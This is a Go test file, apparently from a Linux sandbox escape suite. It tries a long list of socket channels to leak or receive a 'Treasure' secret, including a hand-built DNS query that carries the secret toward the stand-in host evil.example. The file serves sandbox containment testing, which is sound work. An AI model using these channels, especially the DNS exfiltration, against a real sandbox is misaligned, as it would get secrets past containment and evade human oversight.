//go:build linux

package escapetest

import (
	"errors"

	"golang.org/x/sys/unix"
)

const inNetwork = "network and other sockets"

var network = []Attempt{
	{Name: "tcp", Group: inNetwork, What: "connect by TCP over IPv4", Try: func(s *Scene) error { return greet(unix.AF_INET, unix.SOCK_STREAM, 0, loopback4(s.TCP4)) }},
	{Name: "tcp6", Group: inNetwork, What: "connect by TCP over IPv6", Try: func(s *Scene) error { return greet(unix.AF_INET6, unix.SOCK_STREAM, 0, loopback6(s.TCP6)) }},
	{Name: "mptcp", Group: inNetwork, What: "connect by multipath TCP", Try: func(s *Scene) error {
		return greet(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP, loopback4(s.TCP4))
	}},
	{Name: "dns", Group: inNetwork, What: "ask a name server, the question carries a secret", Try: dns},
	{Name: "listen", Group: inNetwork, What: "listen on TCP", FilterOnly: true, Try: func(*Scene) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		if err := unix.Bind(fd, loopback4(0)); err != nil {
			return err
		}
		return unix.Listen(fd, 1)
	}},
	{Name: "udp bind", Group: inNetwork, What: "receive UDP", FilterOnly: true, Try: func(*Scene) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Bind(fd, loopback4(0))
	}},
	{Name: "raw", Group: inNetwork, What: "send raw packets", Root: true, Try: func(*Scene) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, loopback4(0))
	}},
	{Name: "packet", Group: inNetwork, What: "see every packet", Root: true, FilterOnly: true, Try: opening(unix.AF_PACKET, unix.SOCK_RAW, 0)},
	{Name: "xdp", Group: inNetwork, What: "take packets off the device", Root: true, FilterOnly: true, Try: opening(unix.AF_XDP, unix.SOCK_RAW, 0)},
	{Name: "netlink", Group: inNetwork, What: "ask the kernel for its interfaces", FilterOnly: true, Try: opening(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)},
	{Name: "netlink events", Group: inNetwork, What: "hear the host's devices", FilterOnly: true, Try: func(*Scene) error {
		fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Groups: 1})
	}},
	{Name: "unix", Group: inNetwork, What: "connect to a unix socket by its path", Try: func(s *Scene) error {
		return greet(unix.AF_UNIX, unix.SOCK_STREAM, 0, &unix.SockaddrUnix{Name: s.Unix})
	}},
	{Name: "abstract unix", Group: inNetwork, What: "connect to an abstract unix socket", Try: func(s *Scene) error {
		return greet(unix.AF_UNIX, unix.SOCK_STREAM, 0, &unix.SockaddrUnix{Name: "@" + s.Abstract})
	}},
	{Name: "socket pair", Group: inNetwork, What: "make a pair of sockets", FilterOnly: true, Try: func(*Scene) error {
		_, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
		return err
	}},
	{Name: "vsock", Group: inNetwork, What: "open a socket to the hypervisor", FilterOnly: true, Try: opening(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
	{Name: "crypto", Group: inNetwork, What: "open a socket to the kernel's ciphers", FilterOnly: true, Try: opening(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)},
	{Name: "bluetooth", Group: inNetwork, What: "open a Bluetooth socket", FilterOnly: true, Try: opening(unix.AF_BLUETOOTH, unix.SOCK_RAW, 1)},
	{Name: "can", Group: inNetwork, What: "open a CAN socket", FilterOnly: true, Try: opening(unix.AF_CAN, unix.SOCK_RAW, 1)},
	{Name: "tipc", Group: inNetwork, What: "open a TIPC socket", FilterOnly: true, Try: opening(unix.AF_TIPC, unix.SOCK_STREAM, 0)},
	{Name: "key socket", Group: inNetwork, What: "open a socket to IPsec's keys", Root: true, FilterOnly: true, Try: opening(unix.AF_KEY, unix.SOCK_RAW, 2)},
	{Name: "inherited socket", Group: inNetwork, What: "write to an inherited socket by sendto", FilterOnly: true, Try: func(*Scene) error {
		return unix.Sendto(socketFD, []byte(Treasure), unix.MSG_DONTWAIT, nil)
	}},
	{Name: "pass descriptor", Group: inNetwork, What: "pass a descriptor over an inherited socket", FilterOnly: true, Try: func(*Scene) error {
		return unix.Sendmsg(socketFD, []byte("x"), unix.UnixRights(0), nil, unix.MSG_DONTWAIT)
	}},
	{Name: "take passed descriptor", Group: inNetwork, What: "receive a descriptor over an inherited socket", FilterOnly: true, Try: func(*Scene) error {
		control := make([]byte, unix.CmsgSpace(4))
		_, n, _, _, err := unix.Recvmsg(socketFD, make([]byte, 1), control, unix.MSG_DONTWAIT)
		if err != nil {
			return err
		}
		messages, err := unix.ParseSocketControlMessage(control[:n])
		if err != nil || len(messages) == 0 {
			return errors.New("nothing came")
		}
		fds, err := unix.ParseUnixRights(&messages[0])
		if err != nil {
			return err
		}
		b := make([]byte, len(Treasure))
		k, err := unix.Pread(fds[0], b, 0)
		return holds(b[:max(k, 0)], err)
	}},
}

func loopback4(port int) unix.Sockaddr {
	return &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: port}
}

func loopback6(port int) unix.Sockaddr {
	return &unix.SockaddrInet6{Addr: [16]byte{15: 1}, Port: port}
}

func opening(family, kind, protocol int) func(*Scene) error {
	return func(*Scene) error { return closing(unix.Socket(family, kind, protocol)) }
}

// greet connects and reads the treasure.
func greet(family, kind, protocol int, to unix.Sockaddr) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, to); err != nil {
		return err
	}
	b := make([]byte, len(Treasure))
	n, err := unix.Read(fd, b)
	return holds(b[:max(n, 0)], err)
}

// dns asks for treasure.evil.example and wants an answer with the same id.
func dns(s *Scene) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, loopback4(s.UDP)); err != nil {
		return err
	}
	wait := unix.Timeval{Sec: 5}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return err
	}
	question := append([]byte{0x46, 0x4b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(Treasure))}, Treasure...)
	question = append(question, "\x04evil\x07example\x00\x00\x01\x00\x01"...)
	if _, err := unix.Write(fd, question); err != nil {
		return err
	}
	answer := make([]byte, 512)
	n, err := unix.Read(fd, answer)
	switch {
	case err != nil:
		return err
	case n < 12 || answer[0] != 0x46 || answer[1] != 0x4b || answer[2]&0x80 == 0:
		return errors.New("no answer")
	}
	return nil
}
